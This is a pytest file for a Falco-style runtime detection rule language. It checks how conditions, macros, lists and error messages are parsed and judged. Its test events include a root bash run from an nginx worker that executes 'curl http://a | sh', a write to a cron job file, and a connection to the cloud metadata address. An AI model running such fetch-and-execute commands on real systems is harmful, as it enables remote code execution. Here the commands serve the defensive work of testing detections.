"""The language of conditions: what holds, what is refused and where."""

from __future__ import annotations

import json
import random
from pathlib import Path

import pytest
import yaml
from lichen_guard.rules import RulesError
from lichen_guard.rules.parse import parse
from lichen_guard.rules.problems import Fault
from lichen_guard.rules.text import Source, Text

from .rule_scene import connects, faults, happens, judge, load, opens, process, rule, start

EXEC = start("bash", "-c", "curl http://a | sh", parent=process("nginx", "worker"), uid=0)
OPEN = opens("/etc/cron.d/job.sh", process("vi", "job"), "w")
CONNECT = connects(process("curl"), "10.1.2.3", 8080)


@pytest.mark.parametrize(
    ("condition", "holds"),
    [
        ("proc.name = bash", True),
        ("proc.name == bash", True),
        ("proc.name != bash", False),
        ("proc.name in (sh, bash)", True),
        ("proc.name in (sh,'dash')", False),
        ("proc.name in ()", False),
        ("proc.name startswith ba", True),
        ("proc.name endswith sh", True),
        ("proc.args contains 'curl http'", True),
        ("proc.args icontains CURL", True),
        ("proc.args contains CURL", False),
        ('proc.cmdline glob "bash -c*sh"', True),
        ('proc.cmdline glob "bash -[abc] *"', True),
        ('proc.cmdline glob "bash -[^c] *"', False),
        ("proc.cmdline iglob 'BASH *'", True),
        ("proc.exepath pmatch (/usr/bin)", True),
        ("proc.exepath pmatch (/usr/bi, /opt)", False),
        ("proc.exepath pmatch (/usr/*/bash)", True),
        ("proc.exepath pmatch (/*/bash)", False),
        ("proc.exepath pmatch (/)", True),
        ("proc.name exists", True),
        ("fd.name exists", False),
        ("proc.name intersects (bash, zsh)", True),
        ("user.uid = 0 and user.uid < 1 and user.uid <= 0 and user.uid >= 0", True),
        ("user.uid > 0", False),
        ("user.uid in (0, 0x10)", True),
        ("proc.is_exe_in_memory = false", True),
        ("proc.is_exe_in_memory != true", True),
        ("not proc.name = bash", False),
        ("not not proc.name = bash", True),
        ("not(proc.name = zsh)and proc.name=bash", True),
        ("proc.name = zsh or proc.name = bash and user.uid = 1", False),
        ("(proc.name = zsh or proc.name = bash) and user.uid = 0", True),
        ("evt.type in (execve,\n execveat) and evt.dir=<", True),
        ("evt.type = execve and evt.dir = >", True),
        ("evt.type != execveat", False),
        ("evt.type != openat", True),
        ("syscall.type = execve", True),
        # A missing value: every comparison is false, also the unequal, as in Falco.
        ("fd.name = x", False),
        ("fd.name != x", False),
        ("not fd.name = x", True),
        ("proc.sid != 7", False),
        # Ancestors: one is enough, also for the unequal.
        ("proc.aname = nginx", True),
        ("proc.aname in (systemd)", True),
        ("proc.aname = bash", False),
        ("proc.aname[0] = bash and proc.aname[1] = nginx and proc.aname[2] = systemd", True),
        ("proc.aname[3] exists", False),
        ("proc.aname != nginx", True),
        ('proc.args[0] = "-c"', True),
        ("proc.apid = 1 and proc.apid[1] = 101", True),
    ],
)
def test_an_exec(tmp_path: Path, condition: str, holds: bool) -> None:
    assert judge(tmp_path, json.dumps(condition), EXEC) is holds


@pytest.mark.parametrize(
    ("condition", "holds"),
    [
        ("fd.sip = 10.1.2.3", True),
        ("fd.sip != 10.1.2.3", False),
        ("fd.rip in (10.1.2.4, 10.1.2.3)", True),
        ("fd.ip = 10.1.2.3", True),
        ("fd.net in (10.0.0.0/8, 192.168.0.0/16)", True),
        ("fd.snet = 10.1.2.0/24", True),
        ("fd.rnet != 10.1.2.0/24", False),
        ("fd.snet in ('fc00::/7')", False),
        ("fd.sport = 8080 and fd.rport in (80, 8080)", True),
        ("fd.port != 8080", False),
        ("fd.lport exists", False),
        ("fd.l4proto = tcp and fd.typechar = 4 and fd.type in (ipv4, ipv6)", True),
        ("fd.cip = 10.1.2.3", False),
        ("fd.name endswith :8080", True),
    ],
)
def test_a_connection(tmp_path: Path, condition: str, holds: bool) -> None:
    assert judge(tmp_path, f"evt.type = connect and {condition}", CONNECT) is holds


def test_both_ends_of_a_connection(tmp_path: Path) -> None:
    event = happens("connect", process("curl"), address="10.1.2.3", port=80, local_port=5000, family="ipv4")
    assert judge(tmp_path, "fd.port = 80 and fd.port = 5000 and fd.port != 443 and fd.lport = 5000", event)
    assert not judge(tmp_path, "fd.port != 80", event)


def test_the_same_machine_by_ipv6(tmp_path: Path) -> None:
    event = happens("connect", process("curl"), address="::ffff:169.254.169.254", port=80, family="ipv6")
    assert judge(tmp_path, "fd.sip = 169.254.169.254 and fd.snet in (169.254.0.0/16)", event)


def test_macros_and_lists(tmp_path: Path) -> None:
    before = (
        "- list: inner\n  items: [ash, '\"with blank\"']\n"
        "- list: shells\n  items: [inner, bash]\n"
        "- macro: started\n  condition: evt.type = execve\n"
        "- macro: shell\n  condition: (started and proc.name in (zsh, shells))\n"
    )
    assert judge(tmp_path, "shell and not proc.name in (inner)", EXEC, before)
    assert judge(tmp_path, "proc.name in shells", EXEC, before)
    assert judge(tmp_path, "proc.args in (inner)", start("x", "with blank"), before)
    # Quotes make a word of what would be a list.
    assert not judge(tmp_path, "proc.name in ('shells', inner)", EXEC, before)


@pytest.mark.parametrize(
    ("condition", "place", "words"),
    [
        ("proc.name", "3:23", "a comparison expected: the condition ends there"),
        ("proc.name = ", "3:25", "a word to compare with expected"),
        ("proc.name = a b", "3:28", "and, or, or the end expected: 'b' stands there"),
        ("(proc.name = a", "3:28", "a closing parenthesis expected"),
        ("proc.name = 'a", "3:26", "a closing quote expected"),
        ("proc.name in (a b)", "3:30", "a comma or a closing parenthesis expected"),
        ("proc.name in 7", "3:27", "words in parentheses expected"),
        ("proc.name like a", "3:24", "a comparison expected: 'like a' stands there"),
        ("proc.aname[ = a", "3:24", "an argument in brackets expected"),
        ("and proc.name = a", "3:14", "a field, a macro, not, or a parenthesis expected"),
        ("tolower(proc.name) = a", "3:14", "a comparison expected"),
        ("nothing and proc.name = a", "3:14", "no macro 'nothing'"),
        ("proc.name = a and user.uid = ann", "3:43", "'ann' is no number"),
        ("proc.name > a", "3:14", "> does not fit proc.name"),
        ("user.uid contains 1", "3:14", "contains does not fit user.uid"),
        ("fd.sip = 10.0.0.0/8", "3:23", "'10.0.0.0/8' is no single address"),
        ("fd.snet in (10.0.0.0/33)", "3:26", "'10.0.0.0/33' is no network"),
        ("proc.is_exe_in_memory = maybe", "3:38", "'maybe' is no truth value"),
        ("fd.name glob '/a/+(b)'", "3:27", "pattern '/a/+(b)'"),
    ],
)
def test_faults_have_their_place(tmp_path: Path, condition: str, place: str, words: str) -> None:
    (fault,) = faults(tmp_path, rule(f'"{condition}"').replace('"', " "))
    line, column = place.split(":")
    assert fault.startswith(f"0.yaml:{line}:{int(column) + 1}: {words}"), fault


def test_places_in_folded_and_quoted_conditions(tmp_path: Path) -> None:
    folded = "- rule: R\n  desc: d\n  condition: >-  # why\n    proc.name = a\n    and\n      proc.name ~ b\n"
    (fault,) = faults(tmp_path, folded + "  output: o\n  priority: NOTICE\n")
    assert fault.startswith("0.yaml:6:17: a comparison expected: '~ b' stands there; write one of"), fault
    quoted = '- macro: m\n  condition: "proc.name = \\"a b\\" ~"\n'
    (fault,) = faults(tmp_path, quoted)
    assert fault.startswith("0.yaml:2:35: and, or, or the end expected: '~'"), fault


def test_places_of_what_a_later_file_appends(tmp_path: Path) -> None:
    later = "- rule: R\n  condition: and proc.name ~ b\n  override: {condition: append}\n"
    (fault,) = faults(tmp_path, rule("proc.name = a"), later)
    assert fault.startswith("1.yaml:2:28: a comparison expected"), fault


def test_endless_and_hostile_conditions(tmp_path: Path) -> None:
    def fault_of(text: str) -> str:
        return "\n".join(faults(tmp_path, text))

    assert "nested too deeply" in fault_of(rule("(" * 200 + "proc.name = a" + ")" * 200))
    assert "nested too deeply" in fault_of(rule("not " * 200 + "proc.name = a"))
    assert "condition too long" in fault_of(rule("proc.name = a or " * 10000 + "proc.name = b"))
    doubling = "- macro: m0\n  condition: proc.name = a\n" + "".join(
        f"- macro: m{n + 1}\n  condition: m{n} and m{n}\n" for n in range(25)
    )
    assert "condition too large" in fault_of(doubling)
    assert "macro a means itself: macro a calls macro b calls macro a" in fault_of(
        "- macro: a\n  condition: b\n- macro: b\n  condition: a\n"
    )
    assert "list a means itself" in fault_of("- list: a\n  items: [b]\n- list: b\n  items: [a]\n")
    chain = "".join(f"- macro: m{n}\n  condition: m{n + 1}\n" for n in range(50)) + rule("m0")
    assert "nested too deeply" in fault_of(chain)


def test_a_macro_that_is_broken_is_told_once(tmp_path: Path) -> None:
    text = "- macro: m\n  condition: proc.name ~ a\n" + rule("m") + rule("m and evt.type = execve", "S")
    assert len(faults(tmp_path, text)) == 1


def test_comparisons_that_no_event_reaches_are_looked_at(tmp_path: Path) -> None:
    assert faults(tmp_path, rule("evt.type = dup and user.uid = ann"))


WORDS = (
    *(
        "and",
        "or",
        "not",
        "(",
        ")",
        "proc.name",
        "fd.name",
        "evt.type",
        "user.uid",
        "=",
        "!=",
        "<",
        "in",
        "pmatch",
        "glob",
    ),
    *(
        "exists",
        "contains",
        "sh",
        "'a b'",
        '"',
        "'",
        ",",
        "[",
        "]",
        "aname[2]",
        "proc.aname[",
        "\\",
        "0x",
        "1",
        "*",
        "[a-",
    ),
    *("m", "\n", "#", "%", "\x00", "é", "\udcff", "regex", "("),
)


def test_nonsense_is_refused_and_nothing_else() -> None:
    """Every text is parsed or refused with a fault whose place is within it."""
    random.seed(20261126)
    parsed = 0
    for _ in range(4000):
        value = random.choice((" ", "")).join(random.choices(WORDS, k=random.randint(1, 12)))
        try:
            parse(_text(value))
            parsed += 1
        except Fault as fault:
            assert fault.problem.place.line >= 1  # noqa: PT017 - it need not come
    assert parsed > 20


def _text(value: str) -> Text:
    mark = yaml.Mark("f", 0, 0, 0, None, 0)
    end = yaml.Mark("f", len(value), 0, len(value), None, 0)
    return Text.of(Source("f", value), yaml.ScalarEvent(None, None, (True, True), value, mark, end))


def test_damaged_files_are_refused_and_nothing_else(tmp_path: Path) -> None:
    """Cut, doubled and overwritten rule files load or are refused."""
    random.seed(7)
    whole = (
        "- list: shells\n  items: [bash, 'a b']\n- macro: m\n  condition: evt.type = execve and proc.name in (shells)\n"
        + rule(
            ">-\n    m and (fd.name glob /a/* or\n    not proc.aname[2] = x)", more="  tags: [a]\n  enforce: false\n"
        )
        + "  exceptions:\n    - {name: e, fields: [proc.name, fd.name], comps: [=, in], values: [[a, [b, c]]]}\n"
    )
    load(tmp_path, whole)
    refused = 0
    for _ in range(600):
        text = list(whole)
        for _ in range(random.randint(1, 4)):
            at = random.randrange(len(text))
            text[at : at + random.randint(0, 5)] = random.choices(
                ":-[]{}&*!|>'\"%@`#\t\n ,x\u202e\x85", k=random.randint(0, 3)
            )
        try:
            load(tmp_path, "".join(text))
        except RulesError as error:
            refused += 1
            assert error.problems  # noqa: PT017 - it need not come
            for problem in error.problems:
                assert problem.place.line >= 1
                assert problem.place.column >= 1
                assert problem.what
                assert problem.remedy
    assert refused > 300
